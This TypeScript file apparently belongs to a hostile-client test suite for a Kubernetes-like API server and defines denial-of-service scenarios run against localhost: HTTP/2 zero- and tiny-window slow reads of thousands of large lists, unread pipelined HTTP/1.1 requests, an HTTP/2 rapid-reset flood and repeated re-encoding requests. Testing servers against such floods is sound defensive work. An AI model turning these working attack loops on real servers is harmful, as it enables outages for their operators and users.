import { connect } from 'node:tls';
import {
  type Field,
  literals,
  requestHeaders,
  resetStream,
  windowUpdate,
} from '@cluster-apiserver/testkit/http2-frames';
import { type Http2Connection } from '../../test/hostile/http2-connection.ts';
import {
  type Attack,
  type AttackContext,
  attackerFields,
  namespaces,
  openHttp2,
  pause,
  repeat,
  requestFields,
  serviceAccountsPath,
  untilOver,
} from './attack.ts';

/** The count of the security review that reported this attack. */
const unreadLists = 2_490;

const largeObjects = serviceAccountsPath(namespaces.large);
const gzip: Field = ['accept-encoding', 'gzip'];
const listFields = (context: AttackContext, more: readonly Field[] = []): Field[] =>
  requestFields('GET', largeObjects, [...attackerFields(context), ...more]);

/** Opens connections until all requests are open at once. Returns the connections that the server accepted. */
async function openLists(
  context: AttackContext,
  windowBytes: number,
  more: readonly Field[] = [],
): Promise<Http2Connection[]> {
  const connections: Http2Connection[] = [];
  for (let left = unreadLists; left > 0 && !context.signal.aborted; ) {
    const connection = await openHttp2(context, { windowBytes }).catch(() => undefined);
    if (!connection) {
      context.count('no connection');
      await pause(context, retryPauseMs);
      continue;
    }
    connections.push(connection);
    const block = literals(listFields(context, more));
    const streams = Math.min(left, connection.streamsMax);
    connection.write(Array.from({ length: streams }, () => requestHeaders(connection.newStream(), block, true)));
    context.count('sent', streams);
    left -= streams;
  }
  return connections;
}

const retryPauseMs = 50;

const zeroWindow = (name: string, more: readonly Field[]): Attack => ({
  name,
  reason: `${unreadLists} lists over HTTP/2 whose client reads nothing: each could hold a whole response`,
  prepare: async (context) => async () => {
    await openLists(context, 0, more);
    await untilOver(context);
  },
});

/** A list that the client reads completely, in another encoding than the stored one. */
const readLists = (name: string, accept: string, query = ''): Attack => ({
  name,
  reason: `lists of all objects as ${name.slice('list-'.length)}: every object is decoded and encoded again`,
  prepare: async (context) => () =>
    repeat(context, 4, 1_000, () => ({
      path: `${serviceAccountsPath(namespaces.small)}${query}`,
      headers: { accept },
    })),
});

const pipelined = { connections: 20, requests: 90 };
/** Extends every stream's window in tiny steps. */
const tiny = { windowBytes: 1, stepBytes: 16, pauseMs: 20 };
const resets = { connections: 2, batch: 50, pauseMs: 20, max: 50_000 };

export const listAttacks: readonly Attack[] = [
  zeroWindow('zero-window-lists', []),
  zeroWindow('zero-window-lists-gzip', [gzip]),
  {
    name: 'tiny-window-lists',
    reason: `${unreadLists} lists over HTTP/2 whose client reads ${tiny.stepBytes} bytes at a time`,
    prepare: async (context) => async () => {
      const connections = await openLists(context, tiny.windowBytes);
      while (!context.signal.aborted) {
        for (const connection of connections) {
          const streams = Array.from({ length: connection.streamsMax }, (_, at) => at * 2 + 1);
          connection.write(streams.map((stream) => windowUpdate(stream, tiny.stepBytes)));
        }
        await pause(context, tiny.pauseMs);
      }
    },
  },
  {
    name: 'unread-pipelined-lists',
    reason: `${pipelined.connections} connections with ${pipelined.requests} pipelined lists each, and nothing is read`,
    prepare: async (context) => async () => {
      const { port, ca } = context.target;
      const fields = [['host', '127.0.0.1'], ...attackerFields(context)].map(
        ([name, value]) => `${name}: ${value}\r\n`,
      );
      const request = `GET ${largeObjects} HTTP/1.1\r\n${fields.join('')}\r\n`;
      for (let at = 0; at < pipelined.connections; at++) {
        const socket = connect({ host: '127.0.0.1', port, ca, ALPNProtocols: ['http/1.1'] });
        socket.on('error', () => context.count('closed'));
        socket.once('secureConnect', () => {
          socket.pause();
          socket.write(request.repeat(pipelined.requests));
          context.count('sent', pipelined.requests);
        });
        context.signal.addEventListener('abort', () => socket.destroy());
      }
      await untilOver(context);
    },
  },
  {
    name: 'lists-with-rapid-resets',
    reason: 'lists over HTTP/2 that are reset at once: the server must not keep working on them',
    prepare: async (context) => async () => {
      let sent = 0;
      const loop = async (): Promise<void> => {
        while (!context.signal.aborted && sent < resets.max) {
          const connection = await openHttp2(context).catch(() => undefined);
          if (!connection) {
            context.count('no connection');
            await pause(context, retryPauseMs);
            continue;
          }
          const block = literals(listFields(context));
          while (!context.signal.aborted && connection.isOpen && !connection.goaway && sent < resets.max) {
            const streams = Array.from({ length: resets.batch }, () => connection.newStream());
            connection.write(streams.flatMap((stream) => [requestHeaders(stream, block, true), resetStream(stream)]));
            sent += resets.batch;
            context.count('sent', resets.batch);
            await pause(context, resets.pauseMs);
          }
          connection.destroy();
        }
      };
      await Promise.all(Array.from({ length: resets.connections }, loop));
    },
  },
  readLists('list-yaml', 'application/yaml'),
  readLists('list-indented', 'application/json', '?pretty=true'),
  readLists('list-table', 'application/json;as=Table;g=meta.k8s.io;v=v1'),
  readLists('list-protobuf', 'application/vnd.kubernetes.protobuf'),
];
